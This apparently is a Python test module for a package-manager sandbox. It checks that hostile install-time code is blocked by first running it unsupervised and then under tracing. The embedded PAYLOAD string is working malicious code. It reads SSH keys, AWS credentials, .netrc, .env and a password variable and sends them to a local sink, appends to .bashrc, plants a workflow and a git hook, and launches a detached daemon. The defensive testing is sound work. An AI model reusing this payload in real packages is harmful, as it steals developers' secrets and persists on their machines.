"""What hostile package code tries, in every language that the managers run, and what came of it.

The payload is one Python script. It takes its places from HOME and the folder around it, so that a
package can hold it before there is a world.
"""

import glob
import os
import subprocess
import time

import environment
import processes
from sinks import TcpSink, http_reply
from world import read_text

VARIABLE = "DATABASE_PASSWORD"
READ = (".ssh/id_rsa", ".aws/credentials", ".netrc")

# %(port)d: the sink. %(victims)r: patterns beneath the world. It swallows every error, so that
# the build itself succeeds; `print` is for whoever reads a failed test.
PAYLOAD = r'''
import glob, os, socket, subprocess, sys
home = os.environ["HOME"]
root = os.path.dirname(home)
project = os.path.join(root, "project")
def attempt(what):
    try:
        return what()
    except Exception as error:
        print("nothing: %%r" %% error)
        return ""
def read(path):
    with open(path) as file:
        return file.read()
def append(path, text):
    with open(path, "a") as file:
        file.write(text)
def plant(path):
    attempt(lambda: os.makedirs(os.path.dirname(path), exist_ok=True))
    attempt(lambda: append(path, "#!/bin/sh\necho owned\n"))
def send(text):
    with socket.create_connection(("127.0.0.1", %(port)d), 5) as sink:
        sink.sendall(b"POST / HTTP/1.0\r\nContent-Length: %%d\r\n\r\n" %% len(text) + text)
        sink.recv(100)
loot = [attempt(lambda: read(os.path.join(home, name))) for name in %(read)r]
loot.append(attempt(lambda: read(os.path.join(project, ".env"))))
loot.append(os.environ.get("%(variable)s", ""))
attempt(lambda: send("\n".join(loot).encode()))
attempt(lambda: append(os.path.join(home, ".bashrc"), "echo owned\n"))
for pattern in %(victims)r:
    for path in glob.glob(os.path.join(root, pattern)):
        attempt(lambda: os.chmod(path, 0o644))
        attempt(lambda: append(path, %(comment)r))
plant(os.path.join(project, ".github", "workflows", "owned.yml"))
plant(os.path.join(project, ".git", "hooks", "pre-commit"))
for path in %(programs)r:
    attempt(lambda: open(path, "ab").close())
attempt(lambda: subprocess.Popen(
    ["sh", "-c", "sleep 2; echo alive > %%s/outside/daemon; sleep 60" %% root],
    stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
    start_new_session=True))
'''


class HostileCode:
    """Mixed into a manager's case before it; `fill_registry` begins with `start_sink`."""

    # What the payload writes into: patterns beneath the world, of other packages and caches.
    victims = ()
    comment = "# owned\n"  # what the language takes for one
    programs = ()  # the manager itself: opened for writing, never written
    read = READ  # what it steals of the home

    def start_sink(self):
        self.sink = TcpSink(reply=http_reply("thanks"))
        self.addCleanup(self.sink.close)

    def payload(self):
        return PAYLOAD % {"port": self.sink.port, "read": self.read, "variable": VARIABLE,
                          "comment": self.comment,
                          "victims": tuple(self.victims), "programs": tuple(self.programs)}

    def secrets(self, world):
        return [world.marker_of(name) for name in self.read] + [
            world.markers[os.path.join(world.project, ".env")], world.secret_variables[VARIABLE]]

    def targets(self, world):
        """Every file that the payload would change, and that exists."""
        found = [os.path.join(world.home, ".bashrc")]
        for pattern in self.victims:
            found += glob.glob(os.path.join(world.root, pattern))
        return found

    def refused(self, world):
        """What a refusal must name: of what may not even be listed, the folder."""
        return self.targets(world)

    def owned(self, world):
        """What the payload left behind."""
        planted = [os.path.join(world.project, name)
                   for name in (".github/workflows/owned.yml", ".git/hooks/pre-commit")]
        return [path for path in self.targets(world) + planted
                if os.path.exists(path) and read_text(path).endswith("owned\n")]

    def attacked(self, argv, supervised, prepare, status, options=(), env=None):
        def prepared(world):
            subprocess.run(["git", "init", "-q", world.project], check=True, env=world.env())
            prepare(world)

        world = self.fresh_world(prepared)
        words = argv(world) if callable(argv) else list(argv)
        if supervised:
            words = [environment.safe_trace(), *options] + words
        self.sink.clear()
        secret = {VARIABLE: world.secret_variables[VARIABLE]}
        outcome = processes.run(words, self.variables_of(world, **secret, **(env or {})),
                                world.project, self.timeout, survivor_grace=3.0)
        self.assertFalse(outcome.timed_out, outcome.describe())
        self.assertEqual(status, outcome.status, outcome.describe())
        return world, outcome

    def succeeds_bare(self, argv, prepare, owned=None, env=None):
        world, outcome = self.attacked(argv, False, prepare, 0, env=env)
        for secret in self.secrets(world):
            self.assertGreater(self.sink.count(secret.encode()), 0, "not stolen\n"
                               + outcome.describe())
        found = [os.path.relpath(path, world.root) for path in self.owned(world)]
        for name in ["home/.bashrc", "project/.github/workflows/owned.yml",
                     "project/.git/hooks/pre-commit"]:
            self.assertIn(name, found, outcome.describe())
        self.assertGreaterEqual(len(found), 3 + len(self.victims), found)
        deadline = time.monotonic() + 5
        alive = os.path.join(world.outside, "daemon")
        while not os.path.exists(alive) and time.monotonic() < deadline:
            time.sleep(0.05)
        self.assertTrue(os.path.exists(alive), "bare, the daemon does not live")
        processes.end_orphans()

    def is_stopped(self, argv, prepare, name, version, options=(), env=None, role="package",
                   status=120):
        """First shown to succeed bare. Returns the supervised world and its trace."""
        self.succeeds_bare(argv, prepare, env=env)
        if environment.safe_trace() is None:
            self.skipTest("SAFE_TRACE is not set: only the bare half ran")
        world, outcome = self.attacked(argv, True, prepare, status, options, env)
        trace = self.trace(world)
        said = outcome.describe() + trace.describe()
        self.assertTrue(self.sink.untouched, said)
        self.assertEqual([], self.owned(world), said)
        self.assertEqual([], outcome.survivors, said)
        self.assertFalse(os.path.exists(os.path.join(world.outside, "daemon")), said)
        wanted = [os.path.join(world.home, path) for path in self.read]
        wanted += [os.path.join(world.project, path)
                   for path in (".env", ".github", ".git/hooks")]
        wanted += [*self.refused(world), *self.programs]
        refusals = {what: [event for event in trace.find(refused=True)
                           if what in event.get("file.path", "")] for what in wanted}
        refusals["the sink"] = trace.find(refused=True, destination__port=self.sink.port)
        for what, found in refusals.items():
            self.assertTrue(found, "no refusal of %s\n%s" % (what, said))
            for event in found:
                self.assertEqual((role, name, version), (
                    event.get("safe_trace.role"), event.get("package.name", ""),
                    event.get("package.version", "")), event)
        self.assertEqual([], [event for event in trace.find(refused=True, event__kind="alert")
                              if event.get("package.name", "") != name], said)
        if name:
            named = "%s@%s" % (name, version) if version else name
            self.assertIn(named.encode(), outcome.stderr, "it is named")
        return world, trace
